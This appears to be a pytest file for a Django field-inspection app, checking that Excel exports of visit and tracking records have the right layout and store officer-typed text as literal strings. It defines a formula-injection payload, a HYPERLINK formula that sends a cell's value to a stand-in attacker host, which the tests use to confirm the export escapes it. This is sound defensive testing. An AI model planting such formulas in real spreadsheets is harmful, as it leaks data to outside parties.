"""The visit and tracking exports in the shared Excel look: title row, frozen header, widths,
and what officers typed written as text, never as formulas."""

import datetime
import io
import zipfile

import pytest
import time_machine
from django.db import connection
from django.test.utils import CaptureQueriesContext
from django.urls import reverse
from openpyxl import load_workbook

from fieldwork.exports import TRACKING_COLUMNS, VISIT_COLUMNS
from fieldwork.services import visit_create, weekly_tracking_record
from tests.exports import exported as exported_via_job
from tests.factories import EnterpriseFactory

PAYLOAD = '=HYPERLINK("http://evil.example/?x="&B2,"点击查看")'
SHANGHAI = datetime.timezone(datetime.timedelta(hours=8))
EXPORTED_AT = datetime.datetime(2026, 12, 1, 10, 0, tzinfo=SHANGHAI)


@pytest.fixture
def typed_by_officers(cast):
    """A visit whose findings and a tracking whose note are formulas, as an officer might type them."""
    with time_machine.travel(datetime.datetime(2026, 11, 20, 15, 45, tzinfo=SHANGHAI), tick=False):
        visit = visit_create(officer=cast.officer_a, enterprise=cast.enterprise_a, findings=PAYLOAD, met_with="@李总")
        tracking = weekly_tracking_record(officer=cast.officer_a, enterprise=cast.enterprise_a, note=PAYLOAD)
    return visit, tracking


def exported(client, url_name) -> bytes:
    with time_machine.travel(EXPORTED_AT, tick=False):
        response = exported_via_job(client, reverse(f"fieldwork:{url_name}"))
    assert response.status_code == 200
    return b"".join(response.streaming_content)


def has_formula(content: bytes) -> bool:
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        xml = archive.read("xl/worksheets/sheet1.xml")
    return b"<f>" in xml or b"<f " in xml


def test_a_visits_findings_are_literal_text_in_the_managers_export(cast, client_for, typed_by_officers):
    content = exported(client_for(cast.manager), "visit_export")

    sheet = load_workbook(io.BytesIO(content)).active
    row = sheet[3]
    findings, met_with = row[8], row[7]
    assert (findings.value, findings.data_type, findings.quotePrefix) == (PAYLOAD, "s", True)
    assert (met_with.value, met_with.data_type) == ("@李总", "s")
    assert not has_formula(content)


def test_a_trackings_note_is_literal_text_in_the_export(cast, client_for, typed_by_officers):
    content = exported(client_for(cast.manager), "tracking_export")

    note = load_workbook(io.BytesIO(content)).active[3][18]
    assert (note.value, note.data_type, note.quotePrefix) == (PAYLOAD, "s", True)
    assert not has_formula(content)


@pytest.mark.parametrize(
    ("url_name", "title", "columns", "widths"),
    [
        ("visit_export", "走访记录", VISIT_COLUMNS, {"A": 17, "B": 30, "I": 40}),  # time, enterprise, findings
        ("tracking_export", "周跟踪", TRACKING_COLUMNS, {"A": 10, "C": 30, "S": 40}),  # week, enterprise, note
    ],
)
def test_the_exports_have_a_title_row_a_frozen_header_and_widths(
    cast, client_for, typed_by_officers, url_name, title, columns, widths
):
    sheet = load_workbook(io.BytesIO(exported(client_for(cast.officer_a), url_name))).active

    assert sheet["A1"].value == f"{title}（导出时间 2026-12-01 10:00）"
    assert [cell.value for cell in sheet[2]] == [str(column.header) for column in columns]
    assert sheet["A2"].font.bold
    assert sheet.freeze_panes == "A3"
    assert {letter: sheet.column_dimensions[letter].width for letter in widths} == widths


@pytest.mark.parametrize("url_name", ["visit_export", "tracking_export"])
def test_the_exports_run_as_many_queries_for_many_rows_as_for_one(cast, client_for, url_name):
    client = client_for(cast.officer_a)
    visit_create(officer=cast.officer_a, enterprise=cast.enterprise_a, findings="生产正常")
    weekly_tracking_record(officer=cast.officer_a, enterprise=cast.enterprise_a)

    def queries() -> int:
        with CaptureQueriesContext(connection) as captured:
            exported(client, url_name)
        return len(captured)

    one = queries()
    for _ in range(5):
        enterprise = EnterpriseFactory(grid=cast.grid_a)
        visit_create(officer=cast.officer_a, enterprise=enterprise, findings="生产正常")
        weekly_tracking_record(officer=cast.officer_a, enterprise=enterprise)

    assert queries() == one
